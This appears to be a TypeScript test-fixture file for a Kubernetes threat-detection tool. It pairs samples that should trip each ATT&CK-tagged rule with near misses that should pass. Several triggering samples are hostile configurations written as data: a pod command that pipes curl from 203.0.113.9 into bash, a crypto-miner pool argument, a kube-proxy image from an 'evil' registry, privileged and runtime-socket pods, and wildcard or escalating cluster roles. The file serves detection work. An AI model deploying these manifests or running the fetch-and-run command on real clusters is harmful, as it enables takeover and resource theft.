import type { JsonObject } from '@lockstep/shared/kubernetes/stored-object.ts';

export interface Sample {
  readonly resource: string;
  readonly object: JsonObject;
}

export interface Case {
  readonly rule: string;
  readonly tells: Sample;
  /** Near to it, and nothing. */
  readonly passes: Sample;
}

type Fields = Readonly<Record<string, unknown>>;

function sample(resource: string, name: string, fields: Fields, metadata: Fields = {}): Sample {
  return { resource, object: { ...fields, metadata: { name, ...metadata } } };
}

const IN_SYSTEM = { namespace: 'kube-system' };
const MIRROR = { ...IN_SYSTEM, annotations: { 'kubernetes.io/config.mirror': 'd1f3' } };

/** A pod of one container in a team's namespace. */
function pod(
  spec: Fields,
  container: Fields = {},
  metadata: Fields = { namespace: 'team-01' },
  name = 'web',
): Sample {
  const containers = [{ name: 'main', image: 'registry.example/web:v1', ...container }];
  return sample('pods', name, { kind: 'Pod', spec: { containers, ...spec } }, metadata);
}

function daemonSet(name: string, spec: Fields, container: Fields): Sample {
  const containers = [{ name: 'main', ...container }];
  return sample(
    'daemonsets.apps',
    name,
    { kind: 'DaemonSet', spec: { template: { spec: { containers, ...spec } } } },
    IN_SYSTEM,
  );
}

function cronJob(metadata: Fields): Sample {
  const template = { spec: { containers: [{ name: 'main', image: 'registry.example/job:v1' }] } };
  const spec = { schedule: '*/5 * * * *', jobTemplate: { spec: { template } } };
  return sample('cronjobs.batch', 'nightly', { kind: 'CronJob', spec }, metadata);
}

function hostPath(path: string): Sample {
  return pod({ volumes: [{ name: 'host', hostPath: { path } }] });
}

function binding(name: string, role: string, subject: string, metadata: Fields = {}): Sample {
  const fields = {
    kind: 'ClusterRoleBinding',
    roleRef: { kind: 'ClusterRole', name: role },
    subjects: [{ kind: 'Group', name: subject }],
  };
  return sample('clusterrolebindings.rbac.authorization.k8s.io', name, fields, metadata);
}

function role(name: string, rule: Fields, metadata: Fields = {}): Sample {
  return sample(
    'clusterroles.rbac.authorization.k8s.io',
    name,
    { kind: 'ClusterRole', rules: [rule] },
    metadata,
  );
}

function secret(name: string, type: string, data: Fields = {}, metadata: Fields = {}): Sample {
  return sample('secrets', name, { kind: 'Secret', type, data }, { ...IN_SYSTEM, ...metadata });
}

function service(spec: Fields, namespace: string): Sample {
  return sample(
    'services',
    'front',
    { kind: 'Service', spec: { ports: [{ port: 443, targetPort: 8443 }], ...spec } },
    { namespace },
  );
}

function webhook(fields: Fields): Sample {
  const webhooks = [
    {
      name: 'a.example',
      failurePolicy: 'Fail',
      clientConfig: { service: { namespace: 'policy', name: 'policy' } },
      ...fields,
    },
  ];
  return sample('mutatingwebhookconfigurations.admissionregistration.k8s.io', 'policy', {
    kind: 'MutatingWebhookConfiguration',
    webhooks,
  });
}

function request(name: string, pem: string, spec: Fields, approved = true): Sample {
  const status = approved ? { conditions: [{ type: 'Approved', status: 'True' }] } : {};
  const fields = {
    kind: 'CertificateSigningRequest',
    status,
    spec: {
      request: Buffer.from(pem).toString('base64'),
      signerName: 'kubernetes.io/kube-apiserver-client',
      usages: ['client auth'],
      username: 'jane',
      ...spec,
    },
  };
  return sample('certificatesigningrequests.certificates.k8s.io', name, fields);
}

/** Made with openssl for these tests; the keys are gone. */
const OF_MASTERS = `-----BEGIN CERTIFICATE REQUEST-----
MIHkMIGKAgEAMCgxFzAVBgNVBAoMDnN5c3RlbTptYXN0ZXJzMQ0wCwYDVQQDDARq
YW5lMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAER4H+JLpQZM5coUXAMPD7oN1e
udZc0zcYBPyPqAAo2pF42FnC4ExsuTEStPxFnfrMwIrsfzi1MJA8HS39cL921aAA
MAoGCCqGSM49BAMCA0kAMEYCIQD2rTQyf0EAIX1Fk9rk35ADkLhuiUah/i8NwWmR
js4rfAIhAOnM3xlANq2/tI5uNlslCvqe5p90v9HtmrLrYGwzCOtG
-----END CERTIFICATE REQUEST-----
`;
const OF_JANE = `-----BEGIN CERTIFICATE REQUEST-----
MIHXMH8CAQAwHTEMMAoGA1UECgwDZGV2MQ0wCwYDVQQDDARqYW5lMFkwEwYHKoZI
zj0CAQYIKoZIzj0DAQcDQgAEaEg+B4Z4nVB+EQLPDRbRkRXYr9KldawNqGj9mZAV
2RTHv31oTik5JMHkkaDlnAilJpIlQpe1uNoWhdFKWny3ZKAAMAoGCCqGSM49BAMC
A0gAMEUCIQC2GmBt0wFiJSPcT88N4+O6AvSnGp7KVk1cJItF4Pfw2gIgeqUJcX1D
GCYift83zQsIONlGInZu5ARl9N77PiA8PGg=
-----END CERTIFICATE REQUEST-----
`;

const EXPIRES = { expiration: Buffer.from('2026-11-23T00:00:00Z').toString('base64') };
const GROUPS = {
  'auth-extra-groups': Buffer.from('system:bootstrappers:kubeadm:default-node-token').toString('base64'),
};
const ENFORCED = { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } };
const DEFAULTS = {
  labels: { 'kubernetes.io/bootstrapping': 'rbac-defaults' },
  annotations: { 'rbac.authorization.kubernetes.io/autoupdate': 'true' },
};
const OWNED = { ...IN_SYSTEM, ownerReferences: [{ kind: 'DaemonSet', name: 'x', controller: true }] };
const TOLERATES_ALL = { tolerations: [{ operator: 'Exists' }] };

export const CASES: readonly Case[] = [
  // Pods
  {
    rule: 'LS-T1611-privileged',
    tells: pod({}, { securityContext: { privileged: true } }),
    passes: pod({}, { securityContext: { privileged: false } }),
  },
  {
    rule: 'LS-T1611-host-processes',
    tells: pod({ hostPID: true }),
    passes: pod({ shareProcessNamespace: true }),
  },
  { rule: 'LS-T1610-host-network', tells: pod({ hostNetwork: true }), passes: pod({ hostNetwork: false }) },
  { rule: 'LS-T1611-host-path', tells: hostPath('/etc/kubernetes'), passes: hostPath('/data/etc') },
  {
    rule: 'LS-T1611-runtime-socket',
    tells: hostPath('/run/containerd/containerd.sock'),
    passes: hostPath('/run/app.sock'),
  },
  {
    rule: 'LS-T1611-capabilities',
    tells: pod({}, { securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }),
    passes: pod({}, { securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] } } }),
  },
  {
    rule: 'LS-T1609-debug-container',
    tells: pod({ ephemeralContainers: [{ name: 'debugger', image: 'busybox' }] }),
    passes: pod({ ephemeralContainers: [] }),
  },
  { rule: 'LS-T1610-pod-of-nobody', tells: pod({}, {}, IN_SYSTEM), passes: pod({}, {}, OWNED) },
  {
    rule: 'LS-T1059-fetch-and-run',
    tells: pod({}, { command: ['sh', '-c', 'curl -s http://203.0.113.9/x | bash'] }),
    passes: pod({}, { command: ['sh', '-c', 'curl -s http://api/health | grep ok'] }),
  },
  {
    rule: 'LS-T1610-new-system-workload',
    tells: pod({}, {}, IN_SYSTEM),
    passes: pod({}, {}, { namespace: 'team-01' }),
  },
  {
    rule: 'LS-T1525-system-image',
    tells: daemonSet('kube-proxy', {}, { image: 'evil.example/kube-proxy:v1' }),
    passes: pod({}),
  },
  {
    rule: 'LS-T1543.005-static-pod',
    tells: pod({}, {}, MIRROR, 'helper-cp1'),
    passes: pod({}, {}, MIRROR, 'etcd-cp1'),
  },
  // Hijack
  {
    rule: 'LS-T1496-miner',
    tells: pod({}, { args: ['-o', 'stratum+tcp://pool.example:3333'] }),
    passes: pod({}, { args: ['--pool=connections', '--threads=64'] }),
  },
  {
    rule: 'LS-T1496-miner-image-on-node',
    tells: sample('nodes', 'w1', {
      kind: 'Node',
      status: { images: [{ names: ['docker.io/x/xmrig:6.22.2'] }] },
    }),
    passes: sample('nodes', 'w1', {
      kind: 'Node',
      status: { images: [{ names: ['registry.k8s.io/pause:3.10'] }] },
    }),
  },
  {
    rule: 'LS-T1496-hungry-daemon-set',
    tells: daemonSet('metrics', TOLERATES_ALL, { image: 'x.example/m:1', resources: {} }),
    passes: daemonSet('metrics', TOLERATES_ALL, {
      image: 'x.example/m:1',
      resources: { limits: { cpu: '500m' } },
    }),
  },
  // Schedules
  {
    rule: 'LS-T1053.007-system-cron-job',
    tells: cronJob(IN_SYSTEM),
    passes: cronJob({ namespace: 'team-01' }),
  },
  {
    rule: 'LS-T1053.007-new-cron-job',
    tells: cronJob({ namespace: 'team-01' }),
    passes: sample('jobs.batch', 'x', { kind: 'Job' }),
  },
  // Accounts
  {
    rule: 'LS-T1098.006-cluster-admin',
    tells: binding('ops', 'cluster-admin', 'ops'),
    passes: binding('ops', 'cluster-reader', 'ops'),
  },
  {
    rule: 'LS-T1098.006-masters',
    tells: binding('x', 'view', 'system:masters'),
    passes: binding('cluster-admin', 'cluster-admin', 'system:masters'),
  },
  {
    rule: 'LS-T1098.006-kubeadm-admins',
    tells: binding('x', 'view', 'kubeadm:cluster-admins'),
    passes: binding('kubeadm:cluster-admins', 'cluster-admin', 'kubeadm:cluster-admins'),
  },
  {
    rule: 'LS-T1078-anonymous',
    tells: binding('open', 'view', 'system:unauthenticated'),
    passes: binding('system:public-info-viewer', 'system:public-info-viewer', 'system:unauthenticated'),
  },
  {
    rule: 'LS-T1078-everyone',
    tells: binding('all', 'edit', 'system:authenticated'),
    passes: binding('system:basic-user', 'system:basic-user', 'system:authenticated'),
  },
  {
    rule: 'LS-T1098.006-wildcard-role',
    tells: role('all', { verbs: ['*'], apiGroups: ['*'], resources: ['*'] }),
    passes: role('reader', { verbs: ['get', 'list'], apiGroups: ['*'], resources: ['*'] }),
  },
  {
    rule: 'LS-T1098.006-escalating-role',
    tells: role('system:helper', { verbs: ['escalate'], apiGroups: ['*'], resources: ['clusterroles'] }),
    passes: role(
      'edit',
      { verbs: ['impersonate'], apiGroups: [''], resources: ['serviceaccounts'] },
      DEFAULTS,
    ),
  },
  {
    rule: 'LS-T1136-new-account',
    tells: sample('serviceaccounts', 'node-backup', { kind: 'ServiceAccount' }, IN_SYSTEM),
    passes: sample('serviceaccounts', 'default', { kind: 'ServiceAccount' }, IN_SYSTEM),
  },
  { rule: 'LS-T1098.006-new-binding', tells: binding('x', 'view', 'jane'), passes: role('x', { verbs: [] }) },
  {
    rule: 'LS-T1098.006-widened-role',
    tells: role('x', { verbs: ['get'], resources: ['secrets'] }),
    passes: sample('configmaps', 'x', {}),
  },
  {
    rule: 'LS-T1136-powerful-certificate',
    tells: request('x', OF_MASTERS, {}),
    passes: request('x', OF_MASTERS, {}, false),
  },
  {
    rule: 'LS-T1136-client-certificate',
    tells: request('x', OF_JANE, {}),
    passes: request('csr-x', OF_JANE, { signerName: 'kubernetes.io/kube-apiserver-client-kubelet' }),
  },
  // Secrets
  {
    rule: 'LS-T1528-token-secret',
    tells: secret('node-backup-token', 'kubernetes.io/service-account-token'),
    passes: secret(
      'default-token-x7k2p',
      'kubernetes.io/service-account-token',
      {},
      { annotations: { 'kubernetes.io/service-account.name': 'default' } },
    ),
  },
  {
    rule: 'LS-T1552.007-lasting-bootstrap-token',
    tells: secret('bootstrap-token-abcdef', 'bootstrap.kubernetes.io/token', GROUPS),
    passes: secret('bootstrap-token-abcdef', 'bootstrap.kubernetes.io/token', { ...EXPIRES, ...GROUPS }),
  },
  {
    rule: 'LS-T1552.007-new-bootstrap-token',
    tells: secret('bootstrap-token-abcdef', 'bootstrap.kubernetes.io/token', EXPIRES),
    passes: secret('x', 'Opaque'),
  },
  {
    rule: 'LS-T1098.001-changed-secret',
    tells: secret('db', 'Opaque', { password: 'cGFzcw==' }),
    passes: sample('configmaps', 'db', {}),
  },
  // Exposure
  {
    rule: 'LS-T1190-system-service-exposed',
    tells: service({ type: 'NodePort' }, 'kube-system'),
    passes: service({ type: 'ClusterIP' }, 'kube-system'),
  },
  {
    rule: 'LS-T1190-new-way-in',
    tells: service({ type: 'LoadBalancer' }, 'team-01'),
    passes: service({ type: 'ClusterIP' }, 'team-01'),
  },
  {
    rule: 'LS-T1557-external-address',
    tells: service({ externalIPs: ['203.0.113.7'] }, 'team-01'),
    passes: service({ externalIPs: [] }, 'team-01'),
  },
  {
    rule: 'LS-T1546-webhook-outside',
    tells: webhook({ clientConfig: { url: 'https://203.0.113.7/mutate' } }),
    passes: webhook({ clientConfig: { url: 'https://127.0.0.1:9443/mutate' } }),
  },
  {
    rule: 'LS-T1546-webhook-over-secrets',
    tells: webhook({ rules: [{ apiGroups: ['*'], resources: ['*'] }] }),
    passes: webhook({ rules: [{ apiGroups: [''], resources: ['pods'] }] }),
  },
  { rule: 'LS-T1546-new-admission', tells: webhook({}), passes: sample('configmaps', 'x', {}) },
  {
    rule: 'LS-T1562.001-guard-removed',
    tells: sample('resourcequotas', 'q', { kind: 'ResourceQuota' }, { namespace: 'team-01' }),
    passes: sample('configmaps', 'x', {}),
  },
  {
    rule: 'LS-T1562.001-pod-security-lowered',
    tells: sample('namespaces', 'team-01', { kind: 'Namespace' }),
    passes: sample('namespaces', 'team-01', { kind: 'Namespace' }, ENFORCED),
  },
  {
    rule: 'LS-T1557-api-service',
    tells: sample('apiservices.apiregistration.k8s.io', 'v1.x.example', {
      spec: { insecureSkipTLSVerify: true, service: { namespace: 'x', name: 'x' } },
    }),
    passes: sample('apiservices.apiregistration.k8s.io', 'v1beta1.metrics.k8s.io', {
      spec: { insecureSkipTLSVerify: true, service: { namespace: 'kube-system', name: 'metrics-server' } },
    }),
  },
  {
    rule: 'LS-T1557-new-api-service',
    tells: sample('apiservices.apiregistration.k8s.io', 'v1.x.example', {
      spec: { service: { namespace: 'x', name: 'x' } },
    }),
    passes: sample('apiservices.apiregistration.k8s.io', 'v1.apps', { spec: {} }),
  },
  {
    rule: 'LS-T1557-system-configuration',
    tells: sample('configmaps', 'coredns', { data: { Corefile: '.:53 {}' } }, IN_SYSTEM),
    passes: sample('configmaps', 'app', { data: { a: 'b' } }, IN_SYSTEM),
  },
];

const PROXY = { image: 'registry.k8s.io/kube-proxy:v1.34.0', securityContext: { privileged: true } };
const HOST = { hostNetwork: true, ...TOLERATES_ALL };
const proxyPod = pod({ hostNetwork: true }, PROXY, OWNED, 'kube-proxy-x7k2p');

/** What kubeadm and a pod network leave behind. */
export const STOCK: readonly Sample[] = [
  daemonSet('kube-proxy', HOST, PROXY),
  proxyPod,
  daemonSet(
    'kube-flannel-ds',
    { ...HOST, volumes: [{ name: 'run', hostPath: { path: '/run/flannel' } }] },
    { image: 'ghcr.io/flannel-io/flannel:v0.27.4' },
  ),
  daemonSet('calico-node', HOST, {
    image: 'docker.io/calico/node:v3.31.2',
    securityContext: { privileged: true },
  }),
  pod(
    { hostNetwork: true, volumes: [{ name: 'data', hostPath: { path: '/var/lib/etcd' } }] },
    { image: 'registry.k8s.io/etcd:3.6.5-0' },
    MIRROR,
    'etcd-cp1',
  ),
  pod(
    { hostNetwork: true, volumes: [{ name: 'ca', hostPath: { path: '/etc/ssl/certs' } }] },
    { image: 'registry.k8s.io/kube-apiserver:v1.34.0' },
    MIRROR,
    'kube-apiserver-cp1',
  ),
  pod(
    {},
    {
      image: 'registry.k8s.io/coredns/coredns:v1.12.1',
      securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] } },
    },
    OWNED,
    'coredns-7c65d6cfc9-abcde',
  ),
  binding('cluster-admin', 'cluster-admin', 'system:masters', DEFAULTS),
  binding('kubeadm:cluster-admins', 'cluster-admin', 'kubeadm:cluster-admins'),
  binding('system:discovery', 'system:discovery', 'system:authenticated', DEFAULTS),
  binding('system:basic-user', 'system:basic-user', 'system:authenticated', DEFAULTS),
  binding(
    'system:service-account-issuer-discovery',
    'system:service-account-issuer-discovery',
    'system:serviceaccounts',
    DEFAULTS,
  ),
  binding(
    'kubeadm:kubelet-bootstrap',
    'system:node-bootstrapper',
    'system:bootstrappers:kubeadm:default-node-token',
  ),
  binding('kubeadm:node-proxier', 'system:node-proxier', 'kube-proxy'),
  role('cluster-admin', { verbs: ['*'], apiGroups: ['*'], resources: ['*'] }, DEFAULTS),
  role('edit', { verbs: ['impersonate'], apiGroups: [''], resources: ['serviceaccounts'] }, DEFAULTS),
  role(
    'system:kubelet-api-admin',
    { verbs: ['*'], apiGroups: [''], resources: ['nodes/log', 'nodes/proxy'] },
    DEFAULTS,
  ),
  role(
    'system:controller:clusterrole-aggregation-controller',
    { verbs: ['escalate', 'get'], apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'] },
    DEFAULTS,
  ),
  secret('bootstrap-token-abcdef', 'bootstrap.kubernetes.io/token', { ...EXPIRES, ...GROUPS }),
  request('csr-x', OF_JANE, { signerName: 'kubernetes.io/kube-apiserver-client-kubelet' }),
  sample('apiservices.apiregistration.k8s.io', 'v1.apps', { spec: { group: 'apps' } }),
  service({ type: 'ClusterIP' }, 'kube-system'),
];
